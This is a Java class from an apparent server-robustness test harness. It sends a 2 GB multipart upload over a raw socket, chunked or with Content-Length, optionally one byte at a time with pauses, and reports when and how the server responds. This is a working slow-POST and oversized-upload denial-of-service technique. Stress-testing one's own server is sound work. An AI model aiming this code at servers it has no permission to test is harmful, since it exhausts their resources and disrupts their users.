package attacks;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/** Sends one large file with the form for files, at once or a byte at a time. */
final class Sending {

    private static final long BYTES = 2L << 30;
    private static final int PIECE = 64 * 1024;

    private final Crowd crowd;
    private final boolean chunked;
    private final int pause;
    private long sent;

    /** With a pause of some milliseconds after each byte, or 0 for none. */
    Sending(Crowd crowd, boolean chunked, int pause) {
        this.crowd = crowd;
        this.chunked = chunked;
        this.pause = pause;
    }

    /** Sends up to 2 GB until the server has had enough; tells what it said, and after how much. */
    String answer(Person person, String path) {
        try (Socket socket = Connection.connected(person.address())) {
            socket.getOutputStream().write(head(person, path));
            write(socket.getOutputStream(), Person.filePart("large.txt"));
            try {
                sendPieces(socket);
            } catch (IOException closed) {
                crowd.got("closed");
            }
            return new AnswerReader(socket.getInputStream()).status() + " after " + size(sent);
        } catch (IOException | InterruptedException closed) {
            return "closed after " + size(sent);
        }
    }

    private byte[] head(Person person, String path) {
        return ("POST " + path + " HTTP/1.1\r\nHost: localhost\r\nCookie: " + person.cookies()
                        + "\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                        + (chunked ? "Transfer-Encoding: chunked" : "Content-Length: " + BYTES) + "\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    private void sendPieces(Socket socket) throws IOException, InterruptedException {
        byte[] piece = new byte[pause > 0 ? 1 : PIECE];
        Arrays.fill(piece, (byte) 'x');
        while (sent < BYTES - piece.length && !crowd.stopped()) {
            write(socket.getOutputStream(), piece);
            if (pause > 0) {
                Thread.sleep(pause);
            }
            if (socket.getInputStream().available() > 0) {
                return;
            }
        }
    }

    private void write(OutputStream out, byte[] bytes) throws IOException {
        if (chunked) {
            out.write((Integer.toHexString(bytes.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
        }
        out.write(bytes);
        if (chunked) {
            out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
        }
        sent += bytes.length;
    }

    private static String size(long bytes) {
        return bytes < 1 << 20 ? "less than 1 MB" : (bytes >> 20) / 10 * 10 + " MB";
    }
}
